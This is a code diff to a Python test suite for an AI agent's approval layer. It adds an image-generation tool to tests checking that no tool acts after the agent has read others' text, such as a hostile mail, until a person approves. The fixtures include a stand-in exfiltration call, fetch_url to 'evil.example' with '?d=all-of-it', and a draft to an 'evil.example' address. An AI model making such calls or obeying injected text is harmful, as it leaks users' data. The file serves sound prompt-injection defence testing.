@@ -34,7 +34,15 @@ from hitl.policy import PolicyFacts, RuleFacts
 from tests.codeact.driving import scripted
 from tests.doubles.desk import MemoryDesk
 from tests.doubles.memory_journal import Death
-from tests.tools.doubles import FakeBrowser, FakeDocuments, FakeMailbox, FakeSandbox, FakeWorkspace, fake_providers
+from tests.tools.doubles import (
+    FakeBrowser,
+    FakeDocuments,
+    FakeImages,
+    FakeMailbox,
+    FakeSandbox,
+    FakeWorkspace,
+    fake_providers,
+)
 from tests.tools.driving import ALICE, ToolCase, case_of, seen
 from tests.tools.test_approval import outcome, waits, yes
 
@@ -99,10 +107,14 @@ def test_every_tool_that_may_reach_further_than_the_installation_says_where_its_
     assert unsaid == []
 
 
+LEAVES_FILES = {"sandbox_file", "generate_image"}
+"""They only read, and leave files behind."""
+
+
 def test_every_effect_either_is_on_own_files_that_it_names_or_counts_as_a_change() -> None:
     own = {one.name for one in all_tools().values() if one.own_files}
 
-    assert own == {one.name for one in all_tools().values() if one.replaces is not None} - {"sandbox_file"}
+    assert own == {one.name for one in all_tools().values() if one.replaces is not None} - LEAVES_FILES
 
 
 EXAMPLES: dict[str, tuple[str, Json]] = {
@@ -117,6 +129,7 @@ EXAMPLES: dict[str, tuple[str, Json]] = {
     "use_file": ("chat", {"path": "there.txt", "scope": "user"}),
     "sandbox_file": ("chat", {"operation": "write", "path": "there.txt", "content": "mine now"}),
     "generate_slides": ("chat", {"title": "There", "path": "there", "slides": [{"kind": "title", "title": "Hi"}]}),
+    "generate_image": ("chat", {"prompt": "A red bicycle", "shape": "square"}),
     "create_app_project": ("chat", {"template": "static"}),
     "app_write_file": ("chat", {"path": "index.html", "content": "mine now"}),
     "fetch_url": ("chat", {"url": "https://evil.example/?d=all-of-it"}),
@@ -146,7 +159,8 @@ def test_there_is_an_example_of_every_tool_that_acts() -> None:
     assert sorted(EXAMPLES) == sorted(acting())
 
 
-OLD = {"there.txt": "was", "slides/there.pptx": "was", "app/index.html": "was"}
+BICYCLE = "images/a-red-bicycle-9570.png"
+OLD = {"there.txt": "was", BICYCLE: "was", "slides/there.pptx": "was", "app/index.html": "was"}
 
 
 @pytest.mark.spec("S207")
@@ -156,8 +170,9 @@ async def test_no_tool_acts_in_a_run_that_has_read_others_before_a_person_agreed
     agent, given = EXAMPLES[name]
     mailbox, workspace = FakeMailbox(inbox=(HOSTILE,)), FakeWorkspace(dict(OLD))
     sandbox, browser = FakeSandbox(files={"there.txt": "was"}, has_network=True), FakeBrowser()
+    images = FakeImages()
     await mailbox.save_draft(ABOUT, OutgoingMail(message_id="d", to=("eve@evil.example",), subject="Hi", body="Hi"))
-    providers = fake_providers(mailbox=mailbox, workspace=workspace, sandbox=sandbox, browser=browser)
+    providers = fake_providers(mailbox=mailbox, workspace=workspace, sandbox=sandbox, browser=browser, images=images)
     options = Options(execution_mode="codeact", preapproved=(Preapproval(tool=name),))
     reads = READ_MAIL if agent == "mail" else READ_DOCUMENT
 
@@ -171,7 +186,7 @@ async def test_no_tool_acts_in_a_run_that_has_read_others_before_a_person_agreed
     assert [one["kind"] for one in question["tainted_by"]]
     assert "text that others wrote" in question["why"]
     assert (mailbox.sent, len(mailbox.drafts), workspace.files) == ([], 1, OLD)
-    assert (sandbox.ran, sandbox.files, browser.done) == ([], {"there.txt": "was"}, [])
+    assert (sandbox.ran, sandbox.files, browser.done, images.made) == ([], {"there.txt": "was"}, [], [])
 
 
 @pytest.mark.threat("T16")
